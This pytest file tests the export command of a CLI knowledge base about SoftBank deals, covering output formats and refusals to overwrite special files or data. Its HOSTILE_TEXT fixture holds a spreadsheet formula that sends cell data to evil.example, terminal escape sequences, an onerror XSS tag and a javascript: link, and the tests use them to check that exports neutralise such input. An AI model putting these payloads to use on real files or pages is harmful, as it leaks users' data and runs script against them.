"""`sbkb export`: every format holds every record, and nothing is written into the data."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
from pathlib import Path

import pytest

from softbank_kb.loading import load_knowledge_base
from softbank_kb.models import COLLECTIONS
from softbank_kb.paths import bundled_data_dir

from .conftest import REPO, RunCli


@pytest.fixture(scope="module")
def record_count() -> int:
    return len(load_knowledge_base(bundled_data_dir()))


def test_json_is_one_array_of_every_record(run_cli: RunCli, record_count: int) -> None:
    result = run_cli("export", "--format", "json")
    records = json.loads(result.stdout)
    assert len(records) == record_count
    assert {r["type"] for r in records} == {
        "source",
        "organization",
        "person",
        "deal",
        "quote",
        "figure",
        "event",
        "strategy",
    }


def test_csv_is_one_table_with_a_type_column(run_cli: RunCli, record_count: int) -> None:
    result = run_cli("export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == record_count
    ampere = next(row for row in rows if row["id"] == "ampere-acquisition")
    assert ampere["type"] == "deal"
    assert json.loads(ampere["amount"])["amount"] == 6500000000
    # The date plain ISO, whether its year is inferred a column of its own; true and false
    # as JSON writes them; no date, both empty.
    assert list(rows[0])[:5] == ["id", "type", "label", "date", "year_inferred"]
    assert (ampere["date"], ampere["year_inferred"], ampere["cumulative"]) == (
        "2025-03",
        "true",
        "false",
    )
    arm = next(row for row in rows if row["id"] == "arm")
    assert (arm["date"], arm["year_inferred"]) == ("", "")


def test_sqlite_has_a_table_per_type(run_cli, tmp_path, record_count) -> None:
    database = tmp_path / "kb.db"
    result = run_cli("export", "--format", "sqlite", "-o", str(database))
    assert result.exit_code == 0, result.stderr
    connection = sqlite3.connect(database)
    try:
        total = sum(
            connection.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0]
            for table in COLLECTIONS
        )
        amount = connection.execute(
            "SELECT amount, currency FROM deals WHERE id = 'ampere-acquisition'"
        ).fetchone()
    finally:
        connection.close()
    assert total == record_count
    assert amount == (6500000000, "USD")


def test_sqlite_needs_an_output_file(run_cli: RunCli) -> None:
    result = run_cli("export", "--format", "sqlite")
    assert result.exit_code == 2
    assert "needs -o PATH" in result.stderr


def test_markdown_has_a_section_per_type(run_cli: RunCli) -> None:
    result = run_cli("export", "--format", "markdown")
    assert "## Deals (" in result.stdout
    assert "| ampere-acquisition |" in result.stdout


def test_export_refuses_to_write_into_the_data_directory(run_cli: RunCli, tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    shutil.copytree(REPO / "data", data_dir)
    before = sorted(p.name for p in data_dir.iterdir())
    result = run_cli(
        "--data", str(data_dir), "export", "--format", "json", "-o", str(data_dir / "x.json")
    )
    assert result.exit_code == 2
    assert "never writes into a data directory" in result.stderr
    assert sorted(p.name for p in data_dir.iterdir()) == before


# Exports that neither destroy nor inject (reliability review 2: M5, M6, L8, L10, L11, L14) ---

HOSTILE_TEXT = (
    '"=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"x\\") \\e]0;TITLE\\a\\e[2J '
    '<img src=x onerror=alert(1)> `code` [click](javascript:alert(1)) \\u2028"'
)


@pytest.fixture
def hostile_data(tmp_path: Path) -> Path:
    from .test_hostile import ORGANIZATION, _data_dir

    (tmp_path / "hostile").mkdir()
    organization = ORGANIZATION.format(description=HOSTILE_TEXT)
    organization = organization.replace("name: Acme", f"name: {HOSTILE_TEXT}")
    return _data_dir(tmp_path / "hostile", organization)


def _device(path: Path) -> None:
    import os
    import stat

    os.mknod(path, 0o644 | stat.S_IFCHR, os.makedev(1, 3))  # a copy of /dev/null


def _fifo(path: Path) -> None:
    import os

    os.mkfifo(path)


def _loop(path: Path) -> None:
    path.symlink_to(path.name)


NOT_REPLACED = [
    pytest.param(_device, "sqlite", "is not a regular file", id="M5-device"),
    pytest.param(_fifo, "sqlite", "is not a regular file", id="M5-fifo"),
    pytest.param(_fifo, "json", "is not a regular file", id="M5-fifo-json"),
    pytest.param(_loop, "json", "symbolic link loop", id="L4-output-loop"),
]


@pytest.mark.parametrize(("make", "fmt", "expected"), NOT_REPLACED)
def test_export_never_replaces_what_is_not_a_file(run_cli, tmp_path, make, fmt, expected) -> None:
    target = tmp_path / "target"
    make(target)
    before = target.lstat()
    result = run_cli("export", "--format", fmt, "-o", str(target))
    assert result.exit_code == 2, result.stderr
    assert expected in result.stderr
    after = target.lstat()
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)
    assert [p.name for p in tmp_path.iterdir()] == ["target"]  # no temporary file left


@pytest.mark.parametrize("finding", [pytest.param("M5-failed-export", id="M5-failed-export")])
def test_a_failed_export_keeps_the_old_file(run_cli, tmp_path, monkeypatch, finding) -> None:
    import sqlite3

    from softbank_kb import export

    database = tmp_path / "kb.db"
    assert run_cli("export", "--format", "sqlite", "-o", str(database)).exit_code == 0
    before = database.read_bytes()

    def full_disk(kb: object, path: Path, progress: object = None) -> None:
        path.write_bytes(b"partial")
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(export, "export_sqlite", full_disk)
    result = run_cli("export", "--format", "sqlite", "-o", str(database))
    assert result.exit_code == 5  # M5: the old database is not lost
    assert "cannot write" in result.stderr
    assert "database or disk is full" in result.stderr
    assert database.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kb.db", "metadata.json"]  # no .tmp


@pytest.mark.parametrize("finding", [pytest.param("L11", id="L11")])
def test_a_hard_link_into_the_data_directory_is_refused(run_cli, tmp_path, finding) -> None:
    data_dir = tmp_path / "data"
    shutil.copytree(REPO / "data", data_dir)
    before = (data_dir / "deals.yaml").read_bytes()
    link = tmp_path / "hardlink_deals.yaml"
    link.hardlink_to(data_dir / "deals.yaml")
    result = run_cli("--data", str(data_dir), "export", "--format", "json", "-o", str(link))
    assert result.exit_code == 2  # L11
    assert "is the data file" in result.stderr
    assert (data_dir / "deals.yaml").read_bytes() == before


@pytest.mark.parametrize("finding", [pytest.param("M6", id="M6")])
def test_csv_cells_cannot_run_as_formulas(run_cli, hostile_data, finding) -> None:
    rows = list(csv.DictReader(io.StringIO(run_cli("--data", str(hostile_data), *CSV).stdout)))
    acme = next(row for row in rows if row["id"] == "acme")
    assert acme["description"].startswith("'=HYPERLINK(")  # M6, as OWASP advises
    assert "\x1b" not in acme["description"]
    raw = run_cli("--data", str(hostile_data), *CSV, "--raw").stdout
    acme = next(row for row in csv.DictReader(io.StringIO(raw)) if row["id"] == "acme")
    assert acme["description"].startswith("=HYPERLINK(")
    assert "\x1b]0;TITLE\x07" in acme["description"]


CSV = ("export", "--format", "csv")


@pytest.mark.parametrize("start", [pytest.param(c, id=f"M6-{c!r}") for c in "=+-@\t\r"])
def test_each_formula_start_is_neutralised(start: str) -> None:
    from softbank_kb.export import _inert

    assert _inert(f"{start}1+1") == "'" + _inert(f"{start}1+1")[1:]
    assert _inert(f"{start}1+1").startswith("'")
    assert _inert("1+1") == "1+1"
    assert _inert(5) == 5


@pytest.mark.parametrize("finding", [pytest.param("L14", id="L14")])
def test_markdown_escapes_html_and_markdown(run_cli, hostile_data, finding) -> None:
    result = run_cli("--data", str(hostile_data), "export", "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    assert "<img" not in result.stdout  # L14
    assert "&lt;img src=x onerror=alert(1)&gt;" in result.stdout
    assert "\\`code\\`" in result.stdout
    assert "\\[click\\](javascript:alert(1))" in result.stdout
    assert "\x1b" not in result.stdout


@pytest.mark.parametrize(
    "fmt", [pytest.param(f, id=f"L8-I3-{f}") for f in ("json", "csv", "markdown")]
)
def test_stdout_and_output_file_are_the_same_bytes(run_cli, hostile_data, tmp_path, fmt) -> None:
    # L8: click.echo would strip ANSI sequences from stdout that is not a terminal.
    for raw in ((), ("--raw",)) if fmt != "json" else ((),):
        args = ("--data", str(hostile_data), "export", "--format", fmt, *raw)
        piped = run_cli(*args)
        target = tmp_path / f"out-{fmt}{len(raw)}"
        assert run_cli(*args, "-o", str(target)).exit_code == 0
        assert target.read_bytes() == piped.stdout_bytes
        # I3: `-o -` is stdout, not a file named `-`
        assert run_cli(*args, "-o", "-").stdout_bytes == piped.stdout_bytes
    assert not Path("-").exists()


@pytest.mark.parametrize("finding", [pytest.param("L10", id="L10")])
def test_the_wrote_message_shows_control_characters_escaped(run_cli, tmp_path, finding) -> None:
    target = tmp_path / "\x1b]0;TITLE\x07x.csv"
    result = run_cli("export", "--format", "csv", "-o", str(target))
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stderr  # L10
    assert "\\x1b]0;TITLE\\x07x.csv" in result.stderr
    assert target.exists()


@pytest.mark.parametrize("finding", [pytest.param("M5-new-file-mode", id="M5-new-file-mode")])
def test_a_new_export_file_gets_the_usual_mode(run_cli, tmp_path, finding) -> None:
    import os
    import stat

    umask = os.umask(0o022)
    try:
        assert run_cli("export", "--format", "json", "-o", str(tmp_path / "kb.json")).exit_code == 0
    finally:
        os.umask(umask)
    assert stat.S_IMODE((tmp_path / "kb.json").stat().st_mode) == 0o644


UNWRITABLE = [
    pytest.param("nodir/x.json", "No such file or directory", id="L1-no-directory"),
    pytest.param("x" * 300 + ".json", "File name too long", id="L1-name-too-long"),
]


@pytest.mark.parametrize(("name", "expected"), UNWRITABLE)
def test_an_unwritable_output_is_exit_5(run_cli, tmp_path, name, expected) -> None:
    result = run_cli("export", "--format", "json", "-o", str(tmp_path / name))
    assert result.exit_code == 5, result.stderr
    assert f"cannot write '{tmp_path / name}': {expected}" in result.stderr
    assert "internal error" not in result.stderr


@pytest.mark.parametrize("finding", [pytest.param("L1", id="L1-empty-name")])
def test_an_empty_output_name_is_a_usage_error(run_cli: RunCli, finding: str) -> None:
    result = run_cli("export", "--format", "json", "-o", "")
    assert result.exit_code == 2
    assert "an empty file name" in result.stderr


@pytest.mark.parametrize("value", [pytest.param(v, id=f"I1-{v}") for v in ("nan", "NaN", "-nan")])
def test_nan_is_no_amount(run_cli: RunCli, value: str) -> None:
    result = run_cli("invest", "--min-amount", value)
    assert result.exit_code == 2
    assert "--min-amount" in result.stderr
